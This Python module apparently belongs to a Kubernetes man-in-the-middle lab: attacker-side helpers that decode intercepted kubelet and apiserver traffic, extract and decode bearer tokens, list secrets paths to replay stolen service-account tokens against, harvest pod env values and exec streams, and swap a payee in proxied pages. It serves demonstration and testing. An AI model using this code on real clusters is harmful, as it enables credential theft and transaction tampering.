"""Turning intercepted bytes into plain words: pure functions, no mitmproxy import, so they are
tested on the host (tests/lab/test_decode.py) and used by the addon inside the attacker container.

What the attacker recognises on the apiserver -> kubelet path (pkg/kubelet/server/server.go)::

    GET /containerLogs/default/web/app?follow=true   -> the pod's log lines, in the response body
    GET /pods                                        -> every pod on the node, env values included
    POST /run/default/web/app?cmd=id                 -> a command and its output
    Authorization: Bearer eyJhbGciOi...              -> a token to replay (JWT claims decoded)

On the apiserver's proxy connections to pods (plain HTTP, or ``https:`` without verification), it
reads the page and changes one phrase of it (:func:`tamper`). On a pod's connection to the apiserver
(``kubernetes`` service, unverified), it takes the bearer token and plans what to try with it
(:func:`replay_paths`)::

    sub=system:serviceaccount:default:app -> GET /api/v1/namespaces/default/pods        (its own namespace)
                                             GET /api/v1/namespaces/default/secrets
                                             GET /api/v1/namespaces/kube-system/pods

and WebSocket frames of ``kubectl exec`` (channel.k8s.io, v4 and v5): the first byte is the
stream, the rest its bytes::

    b"\\x00ls -l\\n"   stdin   "ls -l"
    b"\\x01total 0\\n" stdout  "total 0"
    b"\\x03{...}"      error   the Status of the exit
    b"\\xff\\x00"      close   (v5: stdin closed)
"""

from __future__ import annotations

import base64
import hashlib
import ipaddress
import json
import re
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import parse_qs, unquote, urlsplit

CHANNELS = {0: "stdin", 1: "stdout", 2: "stderr", 3: "error", 4: "resize", 255: "close"}
_LOGS = re.compile(r"^/containerLogs/([^/]+)/([^/]+)/([^/]+)$")
_RUN = re.compile(r"^/run/([^/]+)/([^/]+)(?:/[^/]+)?/([^/]+)$")


@dataclass(frozen=True)
class ContainerRef:
    namespace: str
    pod: str
    container: str

    def __str__(self) -> str:
        return f"{self.namespace}/{self.pod} container {self.container}"


def container_logs_target(path: str) -> ContainerRef | None:
    """``/containerLogs/ns/pod/container?...`` -> whose logs these are; anything else -> None."""
    m = _LOGS.match(urlsplit(path).path)
    return ContainerRef(*(unquote(g) for g in m.groups())) if m else None


def run_target(path: str) -> tuple[ContainerRef, str] | None:
    """``/run/ns/pod[/uid]/container?cmd=a b`` -> where and which command; anything else -> None."""
    parts = urlsplit(path)
    m = _RUN.match(parts.path)
    if not m:
        return None
    cmd = parse_qs(parts.query).get("cmd", [""])[0]
    return ContainerRef(*(unquote(g) for g in m.groups())), cmd


def text_lines(body: bytes, limit: int = 50) -> list[str]:
    """A body as at most ``limit`` lines of text (undecodable bytes shown as escapes)."""
    lines = body.decode("utf-8", errors="backslashreplace").splitlines()
    return lines[:limit] + ([f"... ({len(lines) - limit} more lines)"] if len(lines) > limit else [])


def bearer_token(headers: Mapping[str, str]) -> str | None:
    value = next((v for k, v in headers.items() if k.lower() == "authorization"), "")
    scheme, _, token = value.partition(" ")
    return token.strip() or None if scheme.lower() == "bearer" else None


def token_claims(token: str) -> dict[str, Any] | None:
    """A JWT's payload, unverified (the attacker just reads it); None for anything else."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        claims = json.loads(base64.urlsafe_b64decode(parts[1] + "=" * (-len(parts[1]) % 4)))
    except (ValueError, UnicodeDecodeError):
        return None
    return claims if isinstance(claims, dict) else None


def describe_token(token: str) -> str:
    """A JWT's claims in words, else its length."""
    claims = token_claims(token)
    if claims is not None:
        keys = ("sub", "aud", "iss", "exp")
        return "JWT " + ", ".join(f"{k}={claims[k]}" for k in keys if k in claims)
    return f"opaque token ({len(token)} characters)"


def fingerprint(token: str) -> str:
    """A short name for a token in logs and loot (scenarios match the token they planted by it)."""
    return hashlib.sha256(token.encode()).hexdigest()[:12]


def replay_paths(token: str) -> list[str]:
    """What an attacker tries first with a stolen service-account token: its own namespace's pods
    and secrets, and another namespace's pods. Not a service-account JWT -> nothing."""
    sub = str((token_claims(token) or {}).get("sub", ""))
    parts = sub.split(":")
    if len(parts) != 4 or parts[:2] != ["system", "serviceaccount"] or not parts[2]:
        return []
    ns = parts[2]
    other = "kube-system" if ns != "kube-system" else "default"
    return [f"/api/v1/namespaces/{ns}/pods", f"/api/v1/namespaces/{ns}/secrets", f"/api/v1/namespaces/{other}/pods"]


def list_summary(status: int, body: bytes) -> str:
    """An apiserver answer in words: the names of a list's items, or a Status's message."""
    try:
        obj = json.loads(body)
    except ValueError:
        return f"HTTP {status}, {len(body)} bytes"
    if not isinstance(obj, dict):
        return f"HTTP {status}"
    if obj.get("kind") == "Status":
        return f"HTTP {status} {obj.get('reason', '')}: {obj.get('message', '')}"
    names = [str((i.get("metadata") or {}).get("name")) for i in obj.get("items") or () if isinstance(i, dict)]
    return f"HTTP {status} {obj.get('kind', '')}: " + (", ".join(names) or "(empty)")


# The phrase the attacker rewrites in pod pages it proxies (scenario 4), and what it writes instead.
TAMPER_FROM, TAMPER_TO = b"to account alice", b"to account mallory"


def tamper(body: bytes) -> bytes | None:
    """The body with the payee swapped, or None if the phrase is not in it (then nothing changes)."""
    return body.replace(TAMPER_FROM, TAMPER_TO) if TAMPER_FROM in body else None


def in_network(address: str, cidr: str) -> bool:
    """``"10.244.1.2"`` in ``"10.244.0.0/16"``; anything unparsable is not."""
    try:
        return ipaddress.ip_address(address) in ipaddress.ip_network(cidr)
    except ValueError:
        return False


def pods_summary(body: bytes) -> list[str]:
    """A kubelet ``/pods`` PodList -> one line per pod, with the env values its containers carry."""
    try:
        items = json.loads(body).get("items") or []
    except (ValueError, AttributeError):
        return []
    out = []
    for pod in items:
        meta, spec = pod.get("metadata") or {}, pod.get("spec") or {}
        envs = [f"{e.get('name')}={e.get('value')}" for c in spec.get("containers") or ()
                for e in c.get("env") or () if "value" in e]
        out.append(f"pod {meta.get('namespace')}/{meta.get('name')}" + (f" env {' '.join(envs)}" if envs else ""))
    return out


@dataclass(frozen=True)
class Frame:
    channel: str
    data: bytes

    def words(self) -> str:
        if self.channel == "close":
            return f"close {CHANNELS.get(self.data[0], self.data[:1].hex()) if self.data else '?'}"
        return f"{self.channel}: {self.data.decode('utf-8', errors='backslashreplace')!r}"


def channel_frame(message: bytes) -> Frame | None:
    """One channel.k8s.io WebSocket message -> its stream and bytes; an empty message -> None."""
    if not message:
        return None
    return Frame(CHANNELS.get(message[0], f"channel {message[0]}"), bytes(message[1:]))


def lines_with(events: Iterable[Mapping[str, Any]], needle: str) -> list[str]:
    """Every stolen line (of any event) that contains ``needle``."""
    return [line for e in events for line in e.get("lines") or () if needle in line]
